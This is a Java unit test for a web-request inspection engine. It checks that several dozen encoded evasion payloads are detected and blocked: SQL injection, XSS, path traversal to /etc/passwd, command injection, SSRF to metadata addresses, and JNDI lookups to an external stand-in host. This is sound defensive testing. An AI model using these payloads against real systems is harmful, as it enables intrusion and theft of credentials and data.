package dev.warden;

import static org.assertj.core.api.Assertions.assertThat;

import dev.warden.detect.Detectors;
import dev.warden.detect.Finding;
import dev.warden.extract.InputCollector;
import dev.warden.extract.Source;
import dev.warden.policy.Policy;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Known evasion techniques, each through the whole engine (standard normalization, every
 * registered detector) as a query value, the way an attacker would send it. Each case names the
 * detector that must fire. The same table, with the known misses, is in docs/DETECTION.md
 * ("Evasions").
 */
class EvasionTest {

  private static final Engine ENGINE = Engine.of(Policy.defaults(), Detectors.discover(), e -> { },
      Engine.Failures.PROPAGATE);

  static Stream<Arguments> evasions() {
    return Stream.of(
        // technique, payload, detector expected
        Arguments.of("double URL encoding", "%252e%252e%252f%252e%252e%252fetc%252fpasswd", "path"),
        Arguments.of("double URL encoding (sqli)", "1%2527%2520OR%2520%25271%2527%253D%25271", "sqli"),
        Arguments.of("mixed URL encoding", "%3Cscr%69pt%3Ealert(1)%3C/scr%69pt%3E", "xss"),
        Arguments.of("mixed URL encoding (path)", "..%2F.%2e/..%252fetc/passwd", "path"),
        Arguments.of("overlong UTF-8 dot and slash", "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd", "path"),
        Arguments.of("overlong UTF-8 angle bracket", "%c0%bcscript%c0%bealert(1)%c0%bc/script%c0%be", "xss"),
        Arguments.of("fullwidth Unicode", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "xss"),
        Arguments.of("fullwidth Unicode (path)", "\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc\uff0fpasswd", "path"),
        Arguments.of("HTML entities", "&lt;img src=x onerror=alert(1)&gt;", "xss"),
        Arguments.of("HTML numeric entities", "&#60;svg/onload=alert(1)&#62;", "xss"),
        Arguments.of("mixed case", "<ScRiPt>alert(1)</sCrIpT>", "xss"),
        Arguments.of("mixed case (sqli)", "1' uNiOn SeLeCt username, password FrOm users--", "sqli"),
        Arguments.of("SQL inline comments", "1'/**/UNION/**/SELECT/**/password/**/FROM/**/users--", "sqli"),
        Arguments.of("SQL versioned comments", "1' /*!50000UNION*/ /*!50000SELECT*/ password FROM users--", "sqli"),
        Arguments.of("whitespace %09", "1'%09OR%09'1'='1", "sqli"),
        Arguments.of("whitespace %0b", "1'%0bUNION%0bSELECT%0bpassword%0bFROM%0busers--", "sqli"),
        Arguments.of("whitespace +", "1'+UNION+SELECT+password+FROM+users--", "sqli"),
        Arguments.of("string concatenation", "1' OR 'a'||'b'='ab'--", "sqli"),
        Arguments.of("CHAR() literal", "1' UNION SELECT CHAR(97,100,109,105,110)--", "sqli"),
        Arguments.of("hex literal", "1' UNION SELECT 0x61646d696e--", "sqli"),
        Arguments.of("JNDI nested lookups", "${${lower:j}${lower:n}${lower:d}${lower:i}:ldap://x.example/a}", "jndi"),
        Arguments.of("JNDI default-value lookups", "${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}", "jndi"),
        Arguments.of("JNDI env fallback", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x.example/a}", "jndi"),
        Arguments.of("shell quoting", ";w'h'o'am'i", "cmdi"),
        Arguments.of("shell double quotes", ";w\"h\"o\"am\"i", "cmdi"),
        Arguments.of("shell ${IFS}", ";cat${IFS}/etc/passwd", "cmdi"),
        Arguments.of("shell backslash", ";c\\at /etc/pass\\wd", "cmdi"),
        Arguments.of("path ....//", "....//....//....//etc/passwd", "path"),
        Arguments.of("path ..%2f", "..%2f..%2f..%2fetc%2fpasswd", "path"),
        Arguments.of("path %c0%ae", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "path"),
        Arguments.of("path backslash", "..\\..\\..\\windows\\win.ini", "path"),
        Arguments.of("IP hex dotted", "http://0x7f.1/admin", "ssrf"),
        Arguments.of("IP decimal", "http://2130706433/admin", "ssrf"),
        Arguments.of("IP mapped IPv6", "http://[::ffff:a9fe:a9fe]/latest/meta-data/", "ssrf"),
        Arguments.of("IP octal", "http://0177.0.0.1/admin", "ssrf"),
        Arguments.of("IP metadata decimal", "http://2852039166/latest/meta-data/", "ssrf"),
        Arguments.of("NUL inside keyword", "<scr%00ipt>alert(1)</scr%00ipt>", "xss"),
        Arguments.of("IIS %u encoding", "%u003cscript%u003ealert(1)%u003c/script%u003e", "xss"),
        Arguments.of("JS unicode escapes", "\\u003cimg src=x onerror=alert(1)\\u003e", "xss"),
        Arguments.of("Tomcat ..;/", "..;/..;/..;/etc/passwd", "path"),
        Arguments.of("form + before command", ";cat+/etc/passwd", "cmdi"),
        Arguments.of("shell ANSI-C quoting", ";$'\\x77\\x68\\x6f\\x61\\x6d\\x69'", "cmdi"),
        Arguments.of("shell empty substitution", ";wh``oami", "cmdi"));
  }

  @ParameterizedTest(name = "{0}: {1}")
  @MethodSource("evasions")
  void inspect_evasion_detectedByExpectedDetector(String technique, String payload, String detector) {
    InputCollector c = ENGINE.collector();
    c.value(Source.QUERY, "query.q", payload);
    Verdict v = ENGINE.inspect(Invocation.of("r", "f"), c);
    assertThat(v.findings()).extracting(Finding::detector).as(technique).contains(detector);
    assertThat(v.blocked()).isTrue();
  }

  @Test
  void evasions_tableIsNotEmpty() {
    assertThat(evasions().count()).isGreaterThan(30);
  }
}
